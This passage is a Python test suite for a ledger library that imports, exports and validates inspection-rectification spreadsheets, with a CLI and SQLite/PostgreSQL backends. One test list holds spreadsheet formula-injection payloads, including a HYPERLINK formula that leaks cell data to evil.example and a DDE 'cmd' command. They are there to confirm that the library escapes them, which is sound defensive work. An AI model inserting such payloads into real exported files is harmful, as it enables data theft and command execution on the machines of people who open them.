"""Ledger files: importing office ledgers, history of later states, export, CLI, backends."""

from __future__ import annotations

import csv
import datetime as dt
import gc
import json
import pathlib
import re
import tracemalloc
import zipfile

import pendulum
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rectflow import (
    FileLimits,
    ImportSummary,
    Ledger,
    LedgerFileError,
    Measure,
    Owner,
    RectflowError,
)
from rectflow._io import xlsxfile
from rectflow._io.cells import escape_formula, split_measures, unescape_formula
from rectflow._io.table import FileProblem, Formula
from rectflow._writer import Writer
from rectflow.cli import main

openpyxl = pytest.importorskip("openpyxl")

NOW = pendulum.datetime(2024, 6, 1, 12, tz="Asia/Shanghai")
TITLE = "XX县XX中学巡察整改台账"
HEADER = [
    "序号",
    "方面",
    "类别",
    "问题描述",
    "整改类型",
    "责任领导",
    "责任部门",
    "责任人",
    "整改时限",
    "整改措施",
    "状态",
    "完成情况",
    "佐证材料",
    "提交人",
    "销号人",
    "销号时间",
]
# The office ledger: aspects/categories merged down, a blank separator row, dates as
# Excel dates and as text in several styles, periods as deadlines.
OFFICE_ROWS: list[list[object]] = [
    ["1.1.1", "第一方面", "(一)落实立德树人有差距", "对德育工作重要性认识不足", "限期整改",
     "刘副校长", "德育处", "黄主任", dt.datetime(2024, 1, 31), "一是召开专题会议；二是制定德育工作方案",
     "已完成整改", "已制定方案并召开会议", "会议纪要.pdf\n方案.docx", "黄主任", "陈书记", "2024年1月10日"],
    ["1.1.2", None, None, "德育活动形式单一", "立行立改", "刘副校长", "德育处", "王老师",
     "2024/1/15", "开展主题班会", "整改中", "", "", "", "", ""],
    ["1.2.1", None, "(二)师德师风建设不到位", "师德考核流于形式", "长期坚持", "李校长", "人事处",
     "赵主任", "长期", "每学期开展师德考核", "取得阶段性成效", "已完成第一轮考核", "考核表.xlsx",
     "", "", ""],
    [None] * 16,
    ["2.1.1", "第二方面", "(一)资产管理不规范", "资产借用无登记", "限期整改", "张副校长", "总务处",
     "郭主任", "2个月", "制定资产借用登记制度", "待销号", "已制定制度", "登记制度.pdf", "郭主任", "", ""],
    ["2.1.2", None, None, "固定资产未及时入账", "限期整改", "张副校长", "总务处", "郭主任",
     "2024.3.31", "补登记入账", "已交办", "", "", "", "", ""],
]  # fmt: skip
EXPECTED = [
    # id, aspect, category, deadline, state, measures
    ("1.1.1", "第一方面", "(一)落实立德树人有差距", dt.date(2024, 1, 31), "completed", 2),
    ("1.1.2", "第一方面", "(一)落实立德树人有差距", dt.date(2024, 1, 15), "in_progress", 1),
    ("1.2.1", "第一方面", "(二)师德师风建设不到位", dt.date(2024, 1, 23), "staged_result", 1),
    ("2.1.1", "第二方面", "(一)资产管理不规范", dt.date(2024, 1, 23), "pending_signoff", 1),
    ("2.1.2", "第二方面", "(一)资产管理不规范", dt.date(2024, 3, 31), "assigned", 1),
]


def _ledger(target: str = ":memory:", **kwargs: object) -> Ledger:
    ledger = Ledger.open(target, clock=lambda: NOW, **kwargs)  # type: ignore[arg-type]
    if not ledger.inspections():
        ledger.add_inspection(
            "R1",
            title="县委第一巡察组巡察",
            feedback_at="2023-11-23",
            at="2023-11-23T09:00:00+08:00",
        )
    return ledger


def _office_xlsx(path: pathlib.Path) -> pathlib.Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([TITLE])
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(HEADER))
    sheet.append(HEADER)
    for row in OFFICE_ROWS:
        sheet.append(row)
    # 方面 merged over 1.1.1–1.2.1 (rows 3–5) and 2.1.1–2.1.2 (rows 7–8); 类别 likewise
    sheet.merge_cells("B3:B5")
    sheet.merge_cells("C3:C4")
    sheet.merge_cells("B7:B8")
    sheet.merge_cells("C7:C8")
    sheet["I3"].number_format = "yyyy/m/d"
    book.save(path)
    return path


def _office_csv(path: pathlib.Path) -> pathlib.Path:
    """The same ledger as Excel on a Chinese Windows saves it: GB18030, blanks under merges."""

    def text(value: object) -> str:
        if isinstance(value, dt.datetime):
            return f"{value.year}/{value.month}/{value.day}"
        return "" if value is None else str(value)

    with path.open("w", encoding="gb18030", newline="") as out:
        writer = csv.writer(out)
        writer.writerow([TITLE] + [""] * (len(HEADER) - 1))
        writer.writerow(HEADER)
        for row in OFFICE_ROWS:
            writer.writerow([text(v) for v in row])
    return path


@pytest.mark.parametrize("make", [_office_xlsx, _office_csv], ids=["xlsx", "gb18030-csv"])
def test_an_office_ledger_imports_to_the_expected_findings(make, tmp_path):
    """Title row, merged 方面/类别, a blank row, mixed date styles and periods all import."""
    ledger = _ledger()
    suffix = ".xlsx" if make is _office_xlsx else ".csv"
    summary = ledger.import_file(make(tmp_path / f"台账{suffix}"), actor="整改办", inspection="R1")
    got = [
        (f.id, f.aspect, f.category, f.deadline, f.state, len(f.measures))
        for f in ledger.findings()
    ]
    assert got == EXPECTED
    assert summary.rows_read == 5
    assert summary.findings_added == 5
    assert dict(summary.by_state) == {
        "assigned": 1,
        "in_progress": 1,
        "staged_result": 1,
        "pending_signoff": 1,
        "completed": 1,
    }
    done = ledger.get("1.1.1")
    assert [m.text for m in done.measures] == ["一是召开专题会议", "二是制定德育工作方案"]
    assert (done.submitter, done.signed_off_by) == ("黄主任", "陈书记")
    assert done.completed_at == pendulum.datetime(2024, 1, 10, tz="Asia/Shanghai")
    assert ledger.get("1.2.1").kind == "long_term"
    assert ledger.verify()


def test_a_completed_row_becomes_explicit_history_through_the_rules(tmp_path):
    """add (imported, by the importer) → start → measures → submit (submitter) → sign_off (signer)."""
    ledger = _ledger()
    ledger.import_file(_office_csv(tmp_path / "a.csv"), actor="整改办", inspection="R1")
    history = ledger.history("1.1.1")
    assert [e.name for e in history] == [
        "add",
        "start",
        "record_measure",
        "record_measure",
        "submit",
        "sign_off",
    ]
    add = history[0]
    assert add.actor == "整改办"
    assert add.payload["provenance"] == "imported"
    assert add.payload["source"] == "a.csv:3"
    submit, sign_off = history[-2:]
    assert (submit.actor, submit.evidence, submit.note) == (
        "黄主任",
        ("会议纪要.pdf", "方案.docx"),
        "已制定方案并召开会议",
    )
    assert sign_off.actor == "陈书记"
    assert all(e.at == pendulum.datetime(2024, 1, 10, tz="Asia/Shanghai") for e in history)
    staged = ledger.history("1.2.1")
    assert [e.name for e in staged] == ["add", "start", "stage"]
    assert staged[-1].at == NOW  # no 状态时间: the time of the import
    assert ledger.get("1.2.1").next_checkpoint == dt.date(2024, 9, 2)  # the longest interval


def test_dry_run_checks_everything_and_writes_nothing(tmp_path):
    """A dry run returns the summary an import would give and leaves the ledger as it was."""
    ledger = _ledger()
    head = ledger.head()
    summary = ledger.import_file(
        _office_csv(tmp_path / "a.csv"), actor="整改办", inspection="R1", dry_run=True
    )
    assert summary.dry_run
    assert (summary.findings_added, summary.events_added) == (5, 16)
    assert ledger.head() == head
    assert list(ledger.findings()) == []


def test_one_bad_row_among_good_ones_writes_nothing(tmp_path):
    """All or nothing: good rows are not written when another row is refused."""
    path = tmp_path / "a.csv"
    path.write_text(
        "编号,巡察,问题,整改时限,责任部门\n1,R1,好,2024-01-31,德育处\n2,R1,坏,2024-02-30,德育处\n",
        encoding="utf-8",
    )
    ledger = _ledger()
    head = ledger.head()  # the inspection's own entry on the chain
    with pytest.raises(LedgerFileError) as caught:
        ledger.import_file(path, actor="整改办")
    assert [(e.row, e.column, e.code) for e in caught.value.errors] == [(3, "D", "bad_date")]
    assert isinstance(caught.value, ValueError)
    assert list(ledger.findings()) == []
    assert ledger.head() == head


def test_the_garbage_collector_is_as_it_was_after_any_import(tmp_path, monkeypatch):
    """An import pauses the cyclic collector while it plans and writes, and restores it after
    a success, a dry run and a refused file alike (and leaves a disabled one disabled)."""
    import gc  # noqa: PLC0415

    seen: list[bool] = []
    real = Writer.admit

    def spy(self: Writer, *args: object) -> None:
        seen.append(gc.isenabled())
        real(self, *args)

    monkeypatch.setattr(Writer, "admit", spy)
    good = _office_csv(tmp_path / "a.csv")
    bad = tmp_path / "b.csv"
    bad.write_text(
        "编号,巡察,问题,整改时限,责任部门\n1,R1,坏,2024-02-30,德育处\n", encoding="utf-8"
    )
    assert gc.isenabled()
    try:
        ledger = _ledger()
        seen.clear()  # the inspection's own admission
        ledger.import_file(good, actor="整改办", inspection="R1", dry_run=True)
        assert gc.isenabled()
        assert seen
        assert not any(seen)  # paused while the rows were planned
        with pytest.raises(LedgerFileError):
            _ledger().import_file(bad, actor="整改办")
        assert gc.isenabled()
        _ledger().import_file(good, actor="整改办", inspection="R1")
        assert gc.isenabled()
        gc.disable()
        _ledger().import_file(good, actor="整改办", inspection="R1")
        assert not gc.isenabled()
    finally:
        gc.enable()


def test_errors_are_capped_and_counted(tmp_path):
    """Over max_errors problems: the first ones are listed and the error says it is truncated."""
    path = tmp_path / "a.csv"
    rows = "".join(f"{i},R1,,2024-01-31,德育处\n" for i in range(1, 31))
    path.write_text("编号,巡察,问题,整改时限,责任部门\n" + rows, encoding="utf-8")
    with pytest.raises(LedgerFileError) as caught:
        _ledger().import_file(path, actor="整改办", limits=FileLimits(max_errors=10))
    assert len(caught.value.errors) == 10
    assert caught.value.truncated
    assert [e.row for e in caught.value.errors] == list(range(2, 12))


def test_messages_are_english_with_lang_en(tmp_path):
    """A ledger opened with lang='en' reports file errors in English, same codes."""
    path = tmp_path / "a.csv"
    path.write_text("编号,巡察,问题,整改时限,责任部门\n1,R1,,2024-01-31,德育处\n", encoding="utf-8")
    with pytest.raises(LedgerFileError) as caught:
        _ledger(lang="en").import_file(path, actor="x")
    (issue,) = caught.value.errors
    assert issue.code == "required"
    assert "must not be empty" in issue.message


def test_english_headers_and_state_names_are_accepted(tmp_path):
    """Aliases match case-insensitively, ignoring spaces and full-width punctuation."""
    path = tmp_path / "a.csv"
    path.write_text(
        " ID ,Inspection,TITLE,Deadline,Department*,Kind,State,Person,Leader\n"
        "9,R1,t,2024-01-31,d,Long Term,In Progress,p,l\n",
        encoding="utf-8-sig",
    )
    ledger = _ledger()
    ledger.import_file(path, actor="整改办")
    f = ledger.get("9")
    assert (f.kind, f.state, f.owner) == ("long_term", "in_progress", Owner("l", "d", "p"))


def test_extra_columns_are_kept_unless_strict(tmp_path):
    """An unknown column is kept as the finding's extra, and refused with strict_columns=True."""
    path = tmp_path / "a.csv"
    path.write_text(
        "编号,巡察,问题,整改时限,责任部门,督办意见\n1,R1,t,2024-01-31,d,随便\n", encoding="utf-8"
    )
    ledger = _ledger()
    with pytest.raises(LedgerFileError):
        ledger.import_file(path, actor="整改办", strict_columns=True)
    assert ledger.import_file(path, actor="整改办").findings_added == 1
    assert dict(ledger.get("1").extra) == {"督办意见": "随便"}


def test_measures_split_by_line_and_by_enumeration():
    """一是…二是… and one per line both give one measure each."""
    assert split_measures("一是开会；二是整改。\n三是复查\n\n每月检查") == (
        "一是开会",
        "二是整改。",
        "三是复查",
        "每月检查",
    )


FORMULA_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "''=1+1",
    "  ' =1+1",
    "-",
    "@",
    "=",
]


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_formula_payloads_are_escaped_and_unescape_to_the_original(payload):
    """Every payload is made inert (a leading quote) and unescapes exactly."""
    escaped = escape_formula(payload)
    assert escaped.startswith("'")
    assert escaped[1:] == payload
    assert unescape_formula(escaped) == payload


def test_plain_text_is_not_escaped():
    """Ordinary cells, and ones that merely contain = or - later, are written as they are."""
    for text in ("对德育工作认识不足", "A=B", "2024-01-31", "'quoted'", "x-1"):
        assert escape_formula(text) == text
        assert unescape_formula(text) == text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_cells_are_inert_and_reimport_as_the_original(fmt, tmp_path):
    """Findings titled with every payload export escaped and re-import with the same titles."""
    ledger = _ledger()
    for i, payload in enumerate(FORMULA_PAYLOADS):
        ledger.add_finding(
            f"F{i:02}",
            inspection="R1",
            title=payload,
            kind="deadline",
            owner=Owner("@leader", "-部门", "+person"),
            deadline="2024-01-31",
            actor="巡察办",
            at="2023-12-01T09:00:00+08:00",
        )
    path = tmp_path / f"out.{fmt}"
    ledger.export_file(path)
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
    else:
        sheet = openpyxl.load_workbook(path).active
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        cells = [c for row in sheet.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    for cell in cells:
        rest = cell.lstrip(" \u3000'")
        assert not rest or cell.startswith("'") or rest[0] not in "=+-@＝＋－＠\t\r"
    other = _ledger()
    other.import_file(path, actor="整改办")
    titles = {f.id: f.title for f in other.findings()}
    # an XLSX cell cannot hold a carriage return (XML reads it as a line feed)
    expected = {
        f"F{i:02}": p.replace("\r", "\n") if fmt == "xlsx" else p
        for i, p in enumerate(FORMULA_PAYLOADS)
    }
    assert titles == expected
    assert other.get("F00").owner == Owner("@leader", "-部门", "+person")


def test_csv_export_is_utf8_with_bom_and_reimports(tmp_path):
    """The CSV starts with a BOM so Excel opens it; export → import → export is identical."""
    ledger = _ledger()
    ledger.import_file(_office_xlsx(tmp_path / "a.xlsx"), actor="整改办", inspection="R1")
    out = tmp_path / "out.csv"
    assert ledger.export_file(out) == 5
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    again = _ledger()
    again.import_file(out, actor="整改办")
    out2 = tmp_path / "out2.csv"
    again.export_file(out2)
    assert out2.read_bytes() == data


def test_yaml_export_reimports_with_the_same_head(tmp_path):
    """YAML carries inspections and every event: an empty ledger gets the same chain and head."""
    ledger = _ledger()
    ledger.import_file(_office_xlsx(tmp_path / "a.xlsx"), actor="整改办", inspection="R1")
    ledger.fire("1.1.2", "record_measure", measure="1.1.2-1", actor="王老师")
    ledger.fire("2.1.2", "cancel", actor="整改办", reason="重复")
    out = tmp_path / "ledger.yaml"
    assert ledger.export_file(out) == ledger.head().count
    fresh = Ledger.open(":memory:", clock=lambda: NOW)
    summary = fresh.import_file(out, actor="恢复")
    assert summary.inspections_added == 1
    assert fresh.head() == ledger.head()
    assert [e.event for e in fresh.store.chain()] == [e.event for e in ledger.store.chain()]
    assert fresh.inspections() == ledger.inspections()
    assert fresh.verify(anchor=ledger.head())


def test_export_as_of_a_past_day_and_one_inspection(tmp_path):
    """as_of replays the ledger as it stood; inspection= keeps only its findings."""
    ledger = _ledger()
    ledger.add_inspection(
        "R2", title="审计", feedback_at="2024-01-05", at="2024-01-05T09:00:00+08:00"
    )
    ledger.add_finding("A1", inspection="R2", title="审计问题", kind="deadline",
                       owner=Owner("l", "财务处", "p"), deadline="2024-03-01", actor="审计组",
                       at="2024-01-06T09:00:00+08:00")  # fmt: skip
    ledger.fire("A1", "start", actor="p", at="2024-02-01T09:00:00+08:00")
    out = tmp_path / "r2.csv"
    assert ledger.export_file(out, as_of="2024-01-31", inspection="R2") == 1
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert [(r["编号"], r["状态"]) for r in rows] == [("A1", "已交办")]
    ledger.export_file(out, inspection="R2")
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert [(r["编号"], r["状态"]) for r in rows] == [("A1", "整改中")]


def test_the_format_comes_from_the_suffix_unless_given(tmp_path):
    """An unknown suffix is refused; format= overrides it."""
    ledger = _ledger()
    with pytest.raises(ValueError, match="csv, xlsx"):
        ledger.export_file(tmp_path / "x.txt")
    assert ledger.export_file(tmp_path / "x.txt", format="yaml") == 1  # the inspection's event
    assert (tmp_path / "x.txt").read_text(encoding="utf-8").startswith("format: rectflow-ledger")


def test_a_finding_with_measures_of_other_kinds_exports_their_text(tmp_path):
    """Measures export one per line (their kinds travel in YAML only)."""
    ledger = _ledger()
    ledger.add_finding("M1", inspection="R1", title="t", kind="deadline", owner=Owner("l", "d", "p"),
                       deadline="2024-02-01", actor="x", at="2023-12-01T09:00:00+08:00",
                       measures=[Measure("M1-1", "每月检查", kind="recurring", cadence="monthly"),
                                 Measure("M1-2", "制定制度", kind="institutional")])  # fmt: skip
    out = tmp_path / "m.csv"
    ledger.export_file(out)
    (row,) = csv.DictReader(out.open(encoding="utf-8-sig"))
    assert row["整改措施"] == "每月检查\n制定制度"


def test_sqlite_and_postgres_import_the_same(tmp_path, pg_target):
    """The same file imports the same findings and events on SQLite and PostgreSQL."""
    source = _office_xlsx(tmp_path / "a.xlsx")
    results = []
    for target in (str(tmp_path / "l.db"), pg_target):
        with _ledger(target) as ledger:
            summary = ledger.import_file(source, actor="整改办", inspection="R1")
            assert ledger.verify()
            yaml_out = tmp_path / f"{len(results)}.yaml"
            ledger.export_file(yaml_out)
            results.append((summary, [f.state for f in ledger.findings()], ledger.head()))
    (s1, states1, head1), (s2, states2, head2) = results
    assert (s1.events_added, states1) == (s2.events_added, states2)
    assert head1 == head2


def test_sqlite_import_of_yaml_has_the_same_head(tmp_path):
    """A YAML round trip through a SQLite file keeps the head."""
    ledger = _ledger()
    ledger.import_file(_office_csv(tmp_path / "a.csv"), actor="整改办", inspection="R1")
    out = tmp_path / "l.yaml"
    ledger.export_file(out)
    with Ledger.open(str(tmp_path / "copy.db"), clock=lambda: NOW) as copy:
        copy.import_file(out, actor="恢复")
        assert copy.head() == ledger.head()


def test_summary_to_dict_is_json_native(tmp_path):
    """ImportSummary.to_dict() serialises as JSON."""
    summary = _ledger().import_file(_office_csv(tmp_path / "a.csv"), actor="x", inspection="R1")
    assert isinstance(summary, ImportSummary)
    assert json.loads(json.dumps(summary.to_dict()))["findings_added"] == 5


# ---------------------------------------------------------------- CLI


@pytest.fixture
def cli_ledger(tmp_path):
    path = tmp_path / "cli.db"
    _ledger(str(path)).close()
    return str(path)


def test_cli_import_and_export(cli_ledger, tmp_path, capsys):
    """`rectflow import` then `export --format yaml`, with --json summaries."""
    source = _office_csv(tmp_path / "a.csv")
    args = [
        "--ledger",
        cli_ledger,
        "import",
        str(source),
        "--inspection",
        "R1",
        "--actor",
        "整改办",
    ]
    assert main([*args, "--dry-run", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["dry_run"] is True
    assert main([*args, "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert (data["findings_added"], data["by_state"]["completed"]) == (5, 1)
    out = tmp_path / "o.dat"
    assert main(["--ledger", cli_ledger, "export", str(out), "--format", "yaml"]) == 0
    assert "o.dat" in capsys.readouterr().out
    assert out.read_text(encoding="utf-8").startswith("format: rectflow-ledger")


def test_cli_import_prints_every_error_and_exits_2(cli_ledger, tmp_path, capsys):
    """Each error is a line file:row:column: code: message on stderr; exit code 2."""
    path = tmp_path / "bad.csv"
    path.write_text(
        "编号,巡察,问题,整改时限,责任部门\n1,R1,,2024-01-31,d\n2,R1,t,2024-02-30,d\n",
        encoding="utf-8",
    )
    assert main(["--ledger", cli_ledger, "import", str(path), "--actor", "x"]) == 2
    err = capsys.readouterr().err.splitlines()
    assert err[:2] == [
        f"{path}:2:C: required: 「问题」不能为空",
        (
            f"{path}:3:D: bad_date: '2024-02-30' 不是有效的日期(可写 2024-01-31、2024/1/31、"
            "2024年1月31日、2024.1.31, 或期限如 2个月): 2024年2月只有29天"
        ),
    ]
    assert main(["--ledger", cli_ledger, "import", str(path), "--actor", "x", "--json"]) == 2
    data = json.loads(capsys.readouterr().err)
    assert [(e["row"], e["column"], e["code"]) for e in data["errors"]] == [
        (2, "C", "required"),
        (3, "D", "bad_date"),
    ]


def test_cli_export_as_of(cli_ledger, tmp_path, capsys):
    """`export --as-of` writes the ledger as it stood that day."""
    main(["--ledger", cli_ledger, "import", str(_office_csv(tmp_path / "a.csv")),
          "--inspection", "R1", "--actor", "整改办"])  # fmt: skip
    out = tmp_path / "old.csv"
    assert main(["--ledger", cli_ledger, "export", str(out), "--as-of", "2024-01-05"]) == 0
    assert list(csv.DictReader(out.open(encoding="utf-8-sig"))) == []


def test_the_import_excel_howto_runs(tmp_path, monkeypatch):
    """Every python block of docs/howto/import-excel.md runs, in order, as written."""
    page = pathlib.Path(__file__).resolve().parents[1] / "docs" / "howto" / "import-excel.md"
    blocks = [
        b.split("```", 1)[0] for b in page.read_text(encoding="utf-8").split("```python\n")[1:]
    ]
    assert len(blocks) >= 5
    monkeypatch.chdir(tmp_path)
    namespace: dict[str, object] = {}
    for block in blocks:
        exec(compile(block, str(page), "exec"), namespace)  # noqa: S102


def test_every_imported_event_passes_the_ledger_gate(tmp_path, monkeypatch):
    """import_file sends each event through the writer's gate (the roles gate) before storing."""
    ledger = _ledger()
    seen = []
    monkeypatch.setattr(ledger._writer, "admit", lambda event, before: seen.append((event, before)))
    summary = ledger.import_file(_office_csv(tmp_path / "a.csv"), actor="整改办", inspection="R1")
    assert len(seen) == summary.events_added == 16
    assert [e.name for e, _ in seen[:6]] == [e.name for e in ledger.history("1.1.1")]
    assert seen[0][1] is None
    assert seen[1][1] is not None
    assert seen[1][1].version == 1


def test_a_refusal_by_the_gate_is_a_file_error_and_writes_nothing(tmp_path, monkeypatch):
    """When the gate refuses an event, the row is reported with the error's code."""

    class PermissionDenied(RectflowError):
        """A stand-in for the roles gate's refusal."""

    def admit(event, before):
        if event.name == "sign_off":
            raise PermissionDenied(f"{event.actor} may not sign off")

    ledger = _ledger()
    monkeypatch.setattr(ledger._writer, "admit", admit)
    with pytest.raises(LedgerFileError) as caught:
        ledger.import_file(_office_csv(tmp_path / "a.csv"), actor="整改办", inspection="R1")
    assert [(e.row, e.column, e.code) for e in caught.value.errors] == [
        (3, "O", "permission_denied")
    ]
    assert caught.value.errors[0].message == "陈书记 may not sign off"
    assert list(ledger.findings()) == []


def test_progress_is_reported_while_reading(tmp_path):
    """The progress callback hears the row count every 1000 rows."""
    path = tmp_path / "big.csv"
    rows = "".join(f"{i},R1,问题,2024-01-31,德育处\n" for i in range(2500))
    path.write_text("编号,巡察,问题,整改时限,责任部门\n" + rows, encoding="utf-8")
    heard = []
    summary = _ledger().import_file(path, actor="整改办", dry_run=True, progress=heard.append)
    assert heard == [1000, 2000]
    assert summary.rows_read == 2500


def test_arguments_are_checked_before_reading(tmp_path):
    """A missing file, an unknown inspection or an empty actor is refused up front."""
    ledger = _ledger()
    with pytest.raises(ValueError, match=r"nope\.csv"):
        ledger.import_file(tmp_path / "nope.csv", actor="x")
    path = _office_csv(tmp_path / "a.csv")
    with pytest.raises(KeyError):
        ledger.import_file(path, actor="x", inspection="R9")
    with pytest.raises(ValueError, match="actor"):
        ledger.import_file(path, actor=" ", inspection="R1")
    with pytest.raises(KeyError):
        ledger.export_file(tmp_path / "x.csv", inspection="R9")
    with pytest.raises(ValueError, match="max_rows"):
        FileLimits(max_rows=0)


def test_yaml_into_a_ledger_with_other_findings_keeps_both(tmp_path):
    """A YAML file of one inspection imports next to what a ledger already holds."""
    source = _ledger()
    source.import_file(_office_csv(tmp_path / "a.csv"), actor="整改办", inspection="R1")
    out = tmp_path / "r1.yaml"
    source.export_file(out, inspection="R1")
    target = Ledger.open(":memory:", clock=lambda: NOW)
    target.add_inspection(
        "R0", title="上一轮", feedback_at="2023-01-05", at="2023-01-05T09:00:00+08:00"
    )
    target.add_finding("0.1", inspection="R0", title="旧问题", kind="deadline",
                       owner=Owner("l", "d", "p"), deadline="2023-03-01", actor="x",
                       at="2023-01-06T09:00:00+08:00")  # fmt: skip
    summary = target.import_file(out, actor="恢复", inspection="R1")
    assert (summary.inspections_added, summary.findings_added) == (1, 5)
    assert [f.id for f in target.findings()] == ["0.1", "1.1.1", "1.1.2", "1.2.1", "2.1.1", "2.1.2"]

    def findings_events(ledger):
        return [e.event for e in ledger.store.chain() if e.event.finding_id not in ("", "0.1")]

    assert findings_events(target) == findings_events(source)
    # R1's own event came along (renumbered in the target's ledger-level sequence)
    assert target.inspection("R1") == source.inspection("R1")
    assert [(e.name, e.payload["inspection"], e.version) for e in target.ledger_history()] == [
        ("add_inspection", "R0", 1),
        ("add_inspection", "R1", 2),
    ]
    assert target.verify()
    with pytest.raises(LedgerFileError) as caught:
        Ledger.open(":memory:", clock=lambda: NOW).import_file(out, actor="x", inspection="R2")
    assert {e.code for e in caught.value.errors} == {"inspection_mismatch"}


def test_cli_shows_a_progress_bar_on_a_terminal(cli_ledger, tmp_path, capsys, monkeypatch):
    """On a terminal a file over 2000 rows gets a progress bar on stderr; --json never does."""
    pytest.importorskip("tqdm")
    path = tmp_path / "big.csv"
    rows = "".join(f"{i},R1,问题,2024-01-31,德育处\n" for i in range(3000))
    path.write_text("编号,巡察,问题,整改时限,责任部门\n" + rows, encoding="utf-8")
    monkeypatch.setattr("sys.stderr.isatty", lambda: True)
    assert main(["--ledger", cli_ledger, "import", str(path), "--actor", "x", "--dry-run"]) == 0
    assert "rows" in capsys.readouterr().err
    assert main(["--ledger", cli_ledger, "import", str(path), "--actor", "x", "--json"]) == 0
    assert capsys.readouterr().err == ""


def test_a_missing_inspection_column_suggests_the_option(tmp_path):
    """Without a 巡察 column and without inspection=, the error says how to name one."""
    path = tmp_path / "a.csv"
    path.write_text("编号,问题,整改时限,责任部门\n1,t,2024-01-31,d\n", encoding="utf-8")
    with pytest.raises(LedgerFileError) as caught:
        _ledger().import_file(path, actor="x")
    (issue,) = caught.value.errors
    assert (issue.code, issue.row) == ("missing_column", 1)
    assert "--inspection" in issue.message


def test_every_character_that_normalises_to_equals_gets_a_closer_look():
    """The row reader's shortcut skips only cells that cannot start a formula (all of Unicode)."""
    import sys  # noqa: PLC0415
    import unicodedata  # noqa: PLC0415

    from rectflow._io.cells import PLAIN_START_EXCEPT  # noqa: PLC0415

    equals = {
        chr(c)
        for c in range(sys.maxunicode + 1)
        if not 0xD800 <= c <= 0xDFFF and unicodedata.normalize("NFKC", chr(c)) == "="
    }
    assert "＝" in equals
    assert equals <= PLAIN_START_EXCEPT
    assert {" ", "\u3000", "\u00a0", "'"} <= PLAIN_START_EXCEPT


@settings(max_examples=300)
@given(
    st.lists(
        st.one_of(
            st.none(),
            st.integers(-5, 5),
            st.floats(allow_nan=False, allow_infinity=False),
            st.text(alphabet=st.sampled_from(" '=＝﹦⁼₌\u3000\u00a0+-@\tA整改"), max_size=6),
            st.text(max_size=6),
            st.builds(Formula, st.text(max_size=4)),
        ),
        min_size=3,
        max_size=3,
    )
)
def test_the_row_readers_one_pass_reads_each_cell_as_its_cell_by_cell_check(cells):
    """``cells`` (one pass, a shortcut for plain text) gives each column what ``raw`` gives."""
    from rectflow._io.table import Issues, _RowReader  # noqa: PLC0415

    index = {"id": 0, "title": 1, "department": 2}
    limits = FileLimits(max_cell_chars=4)
    fast_issues, slow_issues = Issues("f", "zh", 100), Issues("f", "zh", 100)
    fast = _RowReader(index, fast_issues, limits, "Asia/Shanghai", None).cells(5, cells)
    slow_reader = _RowReader(index, slow_issues, limits, "Asia/Shanghai", None)
    slow = {key: slow_reader.raw(5, cells, key) for key in index}
    assert fast == slow
    assert fast_issues.items == slow_issues.items


# Streamed XLSX reading: the rows must be those openpyxl's full (in-memory) reading gives.


def _reference_rows(path: pathlib.Path):
    """The first sheet as the reading before streaming gave it: the whole workbook loaded."""
    book = openpyxl.load_workbook(path, read_only=False, data_only=False)
    try:
        sheet = book.worksheets[0]
        merged = {}
        for span in sheet.merged_cells.ranges:
            value = sheet.cell(span.min_row, span.min_col).value
            for r in range(span.min_row, span.max_row + 1):
                for c in range(span.min_col, span.max_col + 1):
                    merged[r, c] = value

        def value(cell):
            if (cell.row, cell.column) in merged:
                return merged[cell.row, cell.column]
            return Formula(str(cell.value)) if cell.data_type == "f" else cell.value

        for row in sheet.iter_rows():
            yield row[0].row, [value(cell) for cell in row]
    finally:
        book.close()


def _rewritten(path: pathlib.Path, member: str, edit) -> pathlib.Path:
    """*path* (an XLSX) with one part rewritten in place."""
    with zipfile.ZipFile(path) as src:
        parts = [(info, src.read(info.filename)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info, body in parts:
            dst.writestr(info, edit(body) if info.filename == member else body)
    return path


def _merged_sheet(sheet) -> None:
    """A title merged across, 方面 merged down, blank rows between, a formula, links."""
    sheet.append([TITLE])
    sheet.merge_cells("A1:F1")
    sheet.append(["编号", "方面", "问题", "整改时限", "责任部门", "佐证材料"])
    sheet.append(["1.1", "第一方面", "问题一", dt.datetime(2024, 1, 31), "德育处", "纪要.pdf"])
    sheet.append(["1.2", None, "问题二", "2024/2/15", "德育处"])
    sheet.append(["1.3", None, "问题三", "=TODAY()+30", "教务处"])
    sheet.append([])
    sheet.append([])
    sheet.append(["2.1", "第二方面", "问题四", dt.datetime(2024, 3, 1), "总务处"])
    sheet.append(["2.2", None, "问题五", "长期", "总务处"])
    sheet.merge_cells("B3:B5")
    sheet.merge_cells("B8:B9")
    sheet["F3"].hyperlink = "https://example.org/纪要.pdf"
    sheet["F9"].hyperlink = "https://example.org/空.pdf"
    sheet["F9"].value = None  # a link left on an emptied cell: the full reading shows its target
    sheet["F9"].style = "Hyperlink"  # (a cell without value or style would not be written)


@pytest.mark.parametrize("dimension", ["as_saved", "missing", "wrong"])
def test_a_streamed_sheet_reads_as_the_whole_workbook_did(dimension, tmp_path):
    """Merged 方面 and title, blank rows, formula, dates: rows, values and numbers unchanged.

    openpyxl's read-only mode trusts ``<dimension>``; a missing or wrong one changes nothing.
    """
    book = openpyxl.Workbook()
    _merged_sheet(book.active)
    path = tmp_path / "台账.xlsx"
    book.save(path)
    if dimension != "as_saved":
        new = b"" if dimension == "missing" else b'<dimension ref="A1:B2"/>'
        _rewritten(
